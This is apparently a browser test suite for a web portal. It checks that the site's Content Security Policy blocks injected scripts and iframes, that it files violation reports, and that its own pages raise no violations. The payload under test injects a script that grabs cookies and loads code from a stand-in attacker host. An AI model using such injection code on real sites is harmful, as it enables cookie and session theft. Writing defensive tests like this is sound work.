"""A script that somebody smuggled into a page does not run, and the browser's report of it arrives."""

from collections.abc import Callable
from time import monotonic

import pytest
from playwright.sync_api import Page

from eok.gate.models import PolicyReport
from tests.accounts.chromium import TELL_VIOLATIONS
from tests.portal.chromium import page, portal  # noqa: F401

pytestmark = [pytest.mark.browser, pytest.mark.django_db(databases="__all__", transaction=True)]

SMUGGLED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.stolen = document.cookie";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/steal.js?name=hong";
  document.body.append(far);
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/frame";
  document.body.append(frame);
}"""
PATIENCE = 30.0
"""Seconds."""


def test_nothing_smuggled_runs_and_each_try_is_reported(page: Page) -> None:  # noqa: F811
    page.goto("/verify")

    page.evaluate(SMUGGLED)

    assert page.evaluate("window.stolen") is None
    assert until(page, lambda: {"script-src-elem", "frame-src"} <= directives())  # noqa: F811
    assert set(PolicyReport.objects.values_list("page", flat=True)) == {"verification:verify"}
    assert not PolicyReport.objects.filter(blocked__contains="hong").exists()


def test_our_own_pages_report_nothing(page: Page) -> None:  # noqa: F811
    page.add_init_script(TELL_VIOLATIONS)
    for address in ("/", "/verify", "/search?q=가게", "/desk/sign-in/"):
        page.goto(address)
        page.wait_for_load_state("networkidle")

    assert page.evaluate("window.violations") == []


def directives() -> set[str]:
    return set(PolicyReport.objects.values_list("directive", flat=True))


def until(page: Page, holds: Callable[[], bool]) -> bool:  # noqa: F811
    """The browser's own events go on meanwhile."""
    end = monotonic() + PATIENCE
    while monotonic() < end:
        if holds():
            return True
        page.wait_for_timeout(200)
    return False
